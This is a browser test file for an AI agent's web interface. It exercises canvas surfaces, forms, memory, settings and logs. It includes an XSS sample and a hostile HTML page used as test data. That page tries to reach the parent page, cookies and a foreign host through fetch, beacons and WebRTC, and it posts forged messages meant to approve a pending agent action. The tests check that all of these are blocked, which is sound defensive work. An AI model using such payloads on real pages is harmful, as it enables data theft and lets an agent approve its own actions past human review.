    await expect.poll(() => page.url()).toContain(OTHER);
    await page.keyboard.press("Control+k");
    await page.keyboard.type("status");
    await page.keyboard.press("Enter");
    await page.waitForSelector(".facts");
  });

  it("chooses light or dark, and the page remembers", async () => {
    await openPage();
    await visit();
    const scheme = () => page.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
    const button = page.getByRole("button", { name: /Colours/ });
    await button.click();
    await button.click();
    expect(await scheme()).toBe("dark");
    await page.reload();
    await page.waitForSelector(".bar");
    expect(await scheme()).toBe("dark");
  });
});

const SURFACES: Surface[] = [
  { name: "notes", title: "What I found", kind: "markdown", language: "", content: "## Two ways\n\n- **fast**: a cache\n- slow: none\n\n```sh\nls\n```\n<img src=x onerror=alert(1)>" },
  { name: "main", title: "", kind: "code", language: "rust", content: "fn main() {\n    println!(\"hello\");\n}\n" },
  { name: "flow", title: "How a request goes", kind: "diagram", language: "", content: "browser -> gateway: HTTP\ngateway -> engine: op\nengine -> model: request\nengine -> tools: call\ntools -> engine: output\nmodel -> engine: words\nengine -> journal\njournal -> gateway: events\ngateway -> browser: records" },
  { name: "logo", title: "A picture", kind: "image", language: "", content: "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" },
  { name: "drawing", title: "An SVG", kind: "svg", language: "", content: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 60"><circle cx="30" cy="30" r="24" fill="teal"/><text x="62" y="34">hello</text></svg>' },
  { name: "page", title: "A page", kind: "html", language: "", content: "<h1>Count</h1><p id=n>0</p><button id=more>More</button><button id=send>Send</button><script>let n = 0; more.onclick = () => { document.getElementById('n').textContent = ++n; }; send.onclick = () => parent.postMessage({ type: 'act', action: 'count', values: { n } }, '*');</script>" },
  { name: "growth", title: "Pages by month", kind: "chart", language: "", content: "month,read,written\nJanuary,120,30\nFebruary,180,42\nMarch,90,\nApril,240,80\n" },
  { name: "sizes", title: "Sizes", kind: "table", language: "", content: 'file,bytes,note\nb.rs,120,"quoted, ""so"""\na.rs,9,\nc.rs,1000,last\n' },
  { name: "trip", title: "Where to?", kind: "form", language: "", content: JSON.stringify({ fields: [{ name: "city", label: "City", value: "Ulm" }, { name: "why", type: "multiline" }, { name: "days", label: "Days", type: "number" }, { name: "from", label: "From", type: "date" }, { name: "by", label: "By", type: "choice", options: ["train", "bicycle"] }, { name: "cheap", label: "As cheap as it can be", type: "checkbox" }], actions: ["plan it", "not now"] }) },
];

function tellCanvas(...surfaces: Surface[]): void {
  gateway.tell(SESSION, turnId(80), { event: "turn_started", text: "Draw it" }, ...surfaces.map((surface) => ({ event: "canvas_drawn", surface }) as const), { event: "text_delta", text: "Here it is." }, { event: "turn_ended", outcome: { type: "completed" }, usage: usage(10, 10), elapsed_ms: 900 });
}

const tab = (name: string) => page.locator(`#tab-${name}`);
const inFrame = () => page.frameLocator(".surface iframe");

describeInBrowser("the canvas", () => {
  for (const [size, viewport] of Object.entries(SIZES)) {
    for (const scheme of ["light", "dark"] as const) {
      it(`${size} and ${scheme}: every kind of surface is accessible and fits`, async () => {
        await openPage(viewport, scheme);
        tellCanvas(...SURFACES);
        await visitSession();
        await page.getByText("Here it is.").waitFor();
        if (size === "narrow") await page.getByRole("button", { name: "Canvas, 9 surfaces" }).click();
        expect(await page.locator("[role=tab]").first().innerText()).toBe("Where to?");
        for (const { name } of SURFACES) {
          await tab(name).click();
          await page.waitForTimeout(150);
          await shot(`${size}-${scheme}-canvas-${name}`);
          expect(await violations(), name).toEqual([]);
          expect(await fitsWidth(), name).toBe(true);
        }
        if (size === "narrow") {
          await page.keyboard.press("Escape");
          await page.locator(".canvas").waitFor({ state: "hidden" });
        }
      });
    }
  }

  it("is seen growing while it is written, and never fails on a half", async () => {
    await openPage();
    await visitSession();
    gateway.tell(SESSION, turnId(80), { event: "turn_started", text: "Draw it" });
    for (const [idx, surface] of SURFACES.entries()) {
      const call = `g${idx}`;
      gateway.tell(SESSION, turnId(80), { event: "tool_call_started", call, name: "canvas" });
      const json = JSON.stringify(surface);
      for (const piece of json.match(/[^]{1,11}/g)!) {
        gateway.tell(SESSION, turnId(80), { event: "tool_arguments_delta", call, json: piece });
        await page.waitForTimeout(4);
      }
      await page.locator(`#tab-${surface.name}[aria-selected="true"] .spinner`).waitFor();
      expect(await page.getByText("can't be shown here").count()).toBe(0);
      gateway.tell(SESSION, turnId(80), { event: "tool_call_ready", call: { id: call, name: "canvas", arguments: { ...surface } }, origin: "model" }, { event: "canvas_drawn", surface }, { event: "tool_call_ended", call, text: "shown", is_error: false, taint: { untrusted: false, private: false }, whole: null, elapsed_ms: 1 });
      await page.locator(`#tab-${surface.name}[aria-selected="true"] .spinner`).waitFor({ state: "detached" });
    }
  });

  it("sorts a table by its heads", async () => {
    await openPage();
    tellCanvas(...SURFACES);
    await visitSession();
    await tab("sizes").click();
    const column = () => page.$$eval(".sheet tbody td:first-child", (found) => found.map((cell) => cell.textContent));
    const head = page.locator(".sheet").getByRole("button", { name: "bytes" });
    await head.click();
    expect(await column()).toEqual(["a.rs", "b.rs", "c.rs"]);
    await head.click();
    expect(await column()).toEqual(["c.rs", "b.rs", "a.rs"]);
    await head.click();
    expect(await column()).toEqual(["b.rs", "a.rs", "c.rs"]);
  });

  it("sends what a form holds, once, and shows what was sent", async () => {
    await openPage();
    tellCanvas(...SURFACES);
    await visitSession();
    gateway.onOp = (op) => {
      if (op.op !== "act") return;
      gateway.tell(SESSION, op.turn, { event: "turn_started", text: `[On the canvas, the person pressed "${op.act.action}"]` }, { event: "canvas_acted", act: op.act });
    };
    await page.getByLabel("City").fill("Jena");
    await page.getByLabel("why").fill("one\ntwo");
    await page.getByLabel("Days").fill("2.5");
    await page.getByLabel("From", { exact: true }).fill("2027-05-01");
    await page.getByLabel("By").selectOption("bicycle");
    await page.getByLabel("As cheap as it can be").check();
    await page.getByRole("button", { name: "plan it" }).click();
    await page.locator(".sent").getByText("Jena").waitFor();
    await page.locator(".transcript .pressed").getByText("plan it on trip").waitFor();
    const [op] = opsOf("act");
    expect(op).toEqual({
      op: "act",
      session: SESSION,
      turn: expect.stringMatching(/^[0-9a-f]{8}-[0-9a-f]{4}-7/),
      act: { surface: "trip", action: "plan it", values: { city: "Jena", why: "one\ntwo", days: 2.5, from: "2027-05-01", by: "bicycle", cheap: true } },
      options: { is_attended: true, workspace: null, model: null },
    });
    expect(opsOf("act").length).toBe(1);
    expect(opsOf("decide")).toEqual([]);
  });

  it("saves a surface and all of it as a file that reaches nothing", async () => {
    await openPage();
    tellCanvas(...SURFACES);
    await visitSession();
    const saved = async (button: string) => {
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).click()]);
      return { name: download.suggestedFilename(), text: readFileSync(await download.path(), "utf8") };
    };
    await tab("sizes").click();
    const one = await saved("Save Sizes as a file");
    expect(one.name).toBe("sizes.html");
    expect(one.text).toContain("quoted, &quot;so&quot;");
    const all = await saved("Save the whole canvas as a file");
    expect(all.name).toBe("canvas.html");
    expect(all.text.match(/<section>/g)!.length).toBe(SURFACES.length);
    expect(all.text).toContain("default-src 'none'");
    await context.close();
    context = await browser.newContext();
    page = await context.newPage();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.setContent(all.text);
    await page.frameLocator("iframe").first().getByRole("button", { name: "More" }).click();
    expect(asked.filter((url) => !url.startsWith("data:"))).toEqual([]);
  });
});

/** Tries everything that a page could do to the page around it and to the world. What comes of it is in \`got\`. */
const HOSTILE = (own: string, foreign: string, udp: number) => `<p id="got">tried:</p>
<link rel="stylesheet" href="${foreign}/style.css"><link rel="dns-prefetch" href="${foreign}"><link rel="preconnect" href="${foreign}"><link rel="prefetch" href="${own}/api/status?prefetch">
<img src="${foreign}/image.png"><img src="${own}/api/status?image"><iframe src="${own}/api/status?inner"></iframe><iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udp}'}]}).createOffer({offerToReceiveAudio:true})</script>"></iframe>
<form id="form" action="${own}/api/ops" method="post"><input name="x"></form>
<a id="link" href="${foreign}/top" target="_top">x</a>
<script>
  const got = [];
  const tried = (name, act) => { try { const value = act(); if (value !== undefined && value !== null) got.push(name); } catch {} };
  tried("parent document", () => parent.document);
  tried("parent body", () => parent.window.document.body);
  tried("top location", () => top.location.href);
  tried("cookie", () => document.cookie);
  tried("storage", () => localStorage);
  tried("session storage", () => sessionStorage);
  tried("frame element", () => frameElement);
  tried("origin", () => self.origin === "null" ? null : self.origin);
  tried("opened", () => open("${foreign}/opened"));
  tried("top", () => { top.location = "${foreign}/top"; });
  tried("parent", () => { parent.location.replace("${foreign}/parent"); });
  tried("link", () => { document.getElementById("link").click(); });
  tried("form", () => { document.getElementById("form").submit(); });
  tried("dialog", () => confirm("Approve?") || null);
  tried("socket", () => { new WebSocket("${own.replace("http", "ws")}/api/ws").onopen = () => got.push("socket opened"); });
  tried("events", () => { new EventSource("${own}/api/events").onopen = () => got.push("events opened"); });
  tried("beacon", () => { navigator.sendBeacon("${foreign}/beacon", "x"); });
  const rings = (view) => {
    const peer = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  tried("peer", () => { rings(self); });
  const later = "<script>(" + rings + ")(self)<" + "/script>";
  tried("link by name", () => { const link = document.createElement("link"); link.rel = "preconnect"; link.href = "${foreign}"; document.head.append(link); });
  tried("link by markup", () => { document.body.insertAdjacentHTML("beforeend", '<link rel="preconnect" href="${foreign}">'); });
  tried("link by class", () => { class Link extends HTMLLinkElement {} customElements.define("x-link", Link, { extends: "link" }); const link = new Link(); link.rel = "preconnect"; link.href = "${foreign}"; document.head.append(link); });
  tried("link by xml", () => { const read = new DOMParser().parseFromString('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="${foreign}"/>', "text/xml"); document.head.append(document.adoptNode(read.documentElement)); });
  tried("written frame", () => { document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); document.querySelector("iframe").srcdoc = later; });
  tried("made frame", () => { const inner = document.createElementNS("http://www.w3.org/1999/xhtml", "h:iframe"); inner.srcdoc = later; document.body.append(inner); });
  tried("markup still works", () => { const box = document.createElement("div"); box.innerHTML = "<b>bold</b>"; if (box.firstChild.tagName !== "B") return "broken"; });
  tried("inner peer", () => { const inner = document.createElement("iframe"); document.body.append(inner); rings(inner.contentWindow); });
  tried("worker", () => { new Worker("${own}/app.js").onmessage = () => got.push("worker"); });
  for (const url of ["${own}/api/status", "${foreign}/fetch"]) {
    fetch(url, { credentials: "include" }).then(() => got.push("fetched " + url), () => {});
    fetch(url, { mode: "no-cors" }).then(() => got.push("fetched blindly " + url), () => {});
  }
  for (const message of [
    { type: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" },
    { op: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" },
    { type: "op", op: { op: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" } },
    { type: "answer", question: "q", text: "yes" },
    { type: "height", height: 1e9 }, { type: "height", height: "100%" }, { type: "height", height: NaN },
    { type: "act" }, { type: "act", action: "", values: {} }, { type: "act", action: "x".repeat(5000) },
    { type: "act", action: "big", values: { x: "x".repeat(100000) } },
    "text", 7, null, [],
  ]) parent.postMessage(message, "*");
  for (let n = 0; n < parent.frames.length; n++) parent.frames[n].postMessage({ type: "draw", content: "taken over", isWhole: true }, "*");
  document.getElementById("got").tabIndex = 0;
  document.getElementById("got").focus();
  setInterval(() => { document.getElementById("got").textContent = "got: " + got.join(", "); }, 100);
</script>`;

describeInBrowser("a hostile page on the canvas", () => {
  it("g33_reaches_no_page_no_cookie_no_network_and_approves_nothing", async () => {
    await openPage();
    const foreign: string[] = [];
    const world = createServer((request, response) => {
      foreign.push(request.url ?? "");
      response.end();
    });
    world.on("connection", () => foreign.push("connected"));
    await new Promise<void>((done) => world.listen(0, "127.0.0.1", done));
    const address = `http://127.0.0.1:${(world.address() as AddressInfo).port}`;
    const rung = createSocket("udp4").on("message", () => foreign.push("udp"));
    const port = await new Promise<number>((done) => rung.bind(0, "127.0.0.1", () => done(rung.address().port)));
    await context.addCookies([{ name: "titanclaw", value: "secret", url: gateway.url, httpOnly: false, sameSite: "Strict" }]);
    tellRunningTurn();
    askApproval();
    await visitSession();
    await page.waitForSelector(".approval");
    await page.locator("#composer").focus();
    await page.keyboard.type("half a ");
    gateway.asked.length = 0;
    gateway.tell(SESSION, turnId(50), { event: "canvas_drawn", surface: { name: "evil", title: "Approve me", kind: "html", language: "", content: HOSTILE(gateway.url, address, port) } });
    await inFrame().locator("#got", { hasText: "got:" }).waitFor();
    await page.waitForTimeout(700);
    expect(await inFrame().locator("#got").innerText()).toBe("got:");
    await page.keyboard.type("word");
    expect(await page.inputValue("#composer")).toBe("half a word");
    expect(foreign).toEqual([]);
    // This gateway was asked for the frame and for what the page itself looks at again and again.
    const asked = gateway.asked.filter((line) => !/^GET \/api\/(status|sessions\?limit=1000) /.test(line));
    expect(asked.map((line) => line.split(" ").slice(0, 2).join(" "))).toEqual(["GET /canvas/frame"]);
    expect(gateway.ops).toEqual([]);
    expect(await page.locator(".wish").count()).toBe(0);
    expect(await page.locator(".approval").count()).toBe(1);
    expect(page.url()).toContain(gateway.url);
    expect(context.pages().length).toBe(1);
    const height = await page.locator(".surface iframe").evaluate((frame) => frame.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(4_002);
    // A frame that leaves by itself gets nowhere.
    gateway.tell(SESSION, turnId(50), { event: "canvas_drawn", surface: { name: "away", title: "", kind: "html", language: "", content: `<meta http-equiv="refresh" content="0;url=${address}/meta"><script>location = "${address}/self"</script>` } });
    await page.waitForTimeout(500);
    // Chromium may open a connection before it asks the policy, but says nothing over it.
    expect(foreign.filter((what) => what !== "connected")).toEqual([]);
    // The browser says what it forbade.
    complaints.length = 0;
    world.close();
    rung.close();
  });

  it("g33_sends_only_what_the_person_agreed_to", async () => {
    await openPage();
    tellCanvas(...SURFACES);
    await visitSession();
    await tab("page").click();
    await inFrame().getByRole("button", { name: "More" }).click();
    await inFrame().getByRole("button", { name: "Send" }).click();
    await page.locator(".wish").getByText("count").waitFor();
    // Not before it was there for a moment.
    await page.getByRole("button", { name: "Send it" }).dispatchEvent("click");
    await page.waitForTimeout(700);
    expect(opsOf("act")).toEqual([]);
    await page.getByRole("button", { name: "Send it" }).click();
    await expect.poll(() => opsOf("act")).toMatchObject([{ act: { surface: "page", action: "count", values: { n: 1 } } }]);
    await inFrame().getByRole("button", { name: "Send" }).click();
    await page.getByRole("button", { name: "Don't" }).click();
    await inFrame().getByRole("button", { name: "Send" }).click();
    await page.waitForTimeout(200);
    expect(await page.locator(".wish").count()).toBe(0);
    expect(opsOf("act").length).toBe(1);
  });

  it("g33_a_message_from_another_window_is_not_heard", async () => {
    await openPage();
    tellCanvas(...SURFACES);
    await visitSession();
    await tab("page").click();
    await inFrame().getByRole("button", { name: "More" }).waitFor();
    await page.evaluate(() => postMessage({ type: "act", action: "forged", values: {} }, "*"));
    await page.evaluate(() => document.querySelector("iframe")!.contentWindow!.postMessage({ type: "drawn" }, "*"));
    await page.waitForTimeout(200);
    expect(await page.locator(".wish").count()).toBe(0);
  });
});

describeInBrowser("memory", () => {
  it("is searched, added to, changed and deleted by keys alone", async () => {
    await openPage();
    gateway.notes = notes(SESSION, turnId(1));
    await visit("#/memory");
    const shown = () => page.$$eval(".notes .text", (found) => found.map((one) => one.textContent!.slice(0, 12)));
    await expect.poll(shown).toEqual(["The person p", "Releases of ", "The staging ", "A word that "]);
    await page.getByLabel("Search notes").fill("thurs PARSER");
    await expect.poll(shown).toEqual(["Releases of "]);
    await page.getByLabel("Search notes").fill("");
    await expect.poll(() => page.locator(".notes li").count()).toBe(4);

    await page.getByRole("button", { name: "New note" }).focus();
    await page.keyboard.press("Enter");
    await page.keyboard.type("Tea is kept in the left cupboard.");
    await page.keyboard.press("Tab");
    await page.keyboard.type("kitchen, tea");
    await page.keyboard.press("Control+Enter");
    await page.locator(".notes").getByText("Tea is kept").waitFor();
    expect(gateway.notes[0]).toMatchObject({ text: "Tea is kept in the left cupboard.", tags: ["kitchen", "tea"], origin: { type: "person" } });

    const edit = page.getByRole("button", { name: "Edit: Tea is kept" });
    await edit.focus();
    await page.keyboard.press("Enter");
    await page.keyboard.press("Escape");
    await expect.poll(() => edit.evaluate((it) => it === document.activeElement)).toBe(true);
    await page.keyboard.press("Enter");
    await page.keyboard.press("Control+End");
    await page.keyboard.type(" And coffee.");
    await page.keyboard.press("Control+Enter");
    await page.locator(".notes").getByText("And coffee.").waitFor();
    expect(gateway.notes.length).toBe(5);

    await page.getByRole("button", { name: "Delete: Tea is kept" }).focus();
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Delete the note" }).press("Enter");
    await expect.poll(() => page.locator(".notes li").count()).toBe(4);
    expect(gateway.notes.some(({ text }) => text.startsWith("Tea"))).toBe(false);
  });

  it("keeps what was entered when it is refused, and says why", async () => {
    await openPage();
    await visit("#/memory");
    await page.getByText("Nothing is remembered yet").waitFor();
    await page.getByRole("button", { name: "New note" }).click();
    await page.getByLabel("One fact").fill("x");
    gateway.refusal = "a note has 1 to 4000 characters";
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("alert").getByText("a note has 1 to 4000").waitFor();
    expect(await page.getByLabel("One fact").inputValue()).toBe("x");
    expect(await page.getByLabel("One fact").getAttribute("aria-invalid")).toBe("true");
  });
});

describeInBrowser("settings", () => {
  it("are found, changed, refused with words and set back", async () => {
    await openPage();
    gateway.settings = settings();
    await visit("#/settings");
    const row = (name: string) => page.locator(".setting", { has: page.getByText(name, { exact: true }) });
    const value = (name: string) => gateway.settings.settings.find((setting) => setting.name === name)!.value;
    await page.getByLabel("Search settings").fill("turn take");
    expect(await page.locator(".setting").count()).toBe(1);
    await page.getByLabel("Search settings").fill("");

    const seconds = page.getByLabel("limits.turn_seconds", { exact: true });
    expect(await seconds.inputValue()).toBe("3600");
    await seconds.fill("soon");
    await page.keyboard.press("Enter");
    await row("limits.turn_seconds").getByRole("alert").getByText('`limits.turn_seconds` can\'t be "soon"; it must be a whole number').waitFor();
    expect([await seconds.inputValue(), value("limits.turn_seconds")]).toEqual(["soon", null]);
    await page.keyboard.press("Escape");
    expect(await seconds.inputValue()).toBe("3600");
    await seconds.fill("90");
    await page.keyboard.press("Enter");
    await row("limits.turn_seconds").getByText("after a restart").waitFor();
    expect(value("limits.turn_seconds")).toBe(90);
    await row("limits.turn_seconds").getByRole("button", { name: "Back to default: 3600" }).click();
    await row("limits.turn_seconds").getByText("Its default holds again").waitFor();
    expect(value("limits.turn_seconds")).toBe(null);

    await page.getByLabel("limits.reads_along", { exact: true }).selectOption("true");
    await expect.poll(() => value("limits.reads_along")).toBe(true);
    await page.getByLabel("routes.chat", { exact: true }).fill("a/b\nlocal");
    await row("routes.chat").getByRole("button", { name: "Save" }).click();
    await expect.poll(() => value("routes.chat")).toEqual(["a/b", "local"]);
    await row("display.theme").getByText("from the next command on").waitFor();
    await row("models.chat").getByText("TITANCLAW_MODEL goes before the file: house/small-1").waitFor();
  });
});

describeInBrowser("the log", () => {
  it("is filtered, and followed until somebody stops or goes up", async () => {
    await openPage();
    gateway.logs = log();
    await visit("#/logs");
    const box = page.locator(".log");
    const isAtEnd = () => box.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight < 60);
    await page.getByText("disk full").waitFor();
    await expect.poll(isAtEnd).toBe(true);
    expect(await box.locator("li").count()).toBe(43);
    expect(await box.innerText()).not.toContain("\u001b");
    gateway.logs.push(entry("followed entry"));
    await page.getByText("followed entry").waitFor();
    await expect.poll(isAtEnd).toBe(true);
    await page.getByLabel("What is shown").selectOption("warn");
    await expect.poll(() => box.locator("li").count()).toBe(2);
    await page.getByLabel("What is shown").selectOption("trace");
    await expect.poll(() => box.locator("li").count()).toBe(45);
    await page.getByLabel("Search the log").fill("CUT step");
    await expect.poll(() => box.locator("li").count()).toBe(1);
    await page.getByRole("button", { name: "Follow" }).click();
    await expect.poll(() => page.getByRole("button", { name: "Follow" }).getAttribute("aria-pressed")).toBe("false");
    const asked = () => gateway.asked.filter((line) => line.includes("/api/logs")).length;
    await page.waitForTimeout(300);
    const before = asked();
    await page.waitForTimeout(2_500);
    expect(asked()).toBe(before);
  });
});

function costs() {
  const models = [["house", "large-1", 900_000], ["house", "small-1", 120_000], ["local", "tiny", 0]] as const;
  return Array.from({ length: 24 }, (_, day) => day).flatMap((day) =>
    models.map(([provider, model, micros], idx) => ({
      day: new Date(Date.now() - day * 86_400_000).toISOString().slice(0, 10),
      provider,
      model,
      calls: 3 + ((day * 7 + idx) % 11),
      usage: usage(40_000 + day * 900, 3_000 + ((day * 37) % 900), Math.round(micros * (0.3 + ((day * 13) % 10) / 10))),
    })),
  );
}

function changes() {
  const diff = "@@ -10,6 +10,7 @@ impl Parser {\n     pub fn lines(&self) -> Vec<&str> {\n         let mut lines: Vec<&str> = self.text.split('\\n').collect();\n-        lines.pop();\n+        // A file that ends with a newline has no line after it.\n+        if lines.last() == Some(&\"\") { lines.pop(); }\n         lines\n     }\n }\n";
  return {
    turn: turnId(3),
    files: [
      { path: "/home/me/parser/src/parse.rs", what: "changed", notes: [], diff },
      { path: "/home/me/parser/tests/lines.rs", what: "made", notes: ["changed again since"], diff: "@@ -0,0 +1,2 @@\n+#[test]\n+fn last_line() {}\n" },
      { path: "/home/me/parser/logo.png", what: "deleted", notes: ["not text"], diff: "" },
    ],
    notes: ["2 more files are left out."],
  };
}
